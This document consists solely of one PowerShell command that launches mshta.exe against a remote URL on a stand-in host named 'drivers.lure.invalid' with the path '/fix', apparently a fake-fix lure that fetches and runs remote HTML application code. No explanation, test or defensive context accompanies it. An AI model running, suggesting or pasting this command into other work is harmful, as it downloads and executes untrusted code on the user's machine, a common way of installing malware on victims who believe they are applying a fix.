Start-Process mshta.exe -ArgumentList 'https://drivers.lure.invalid/fix'
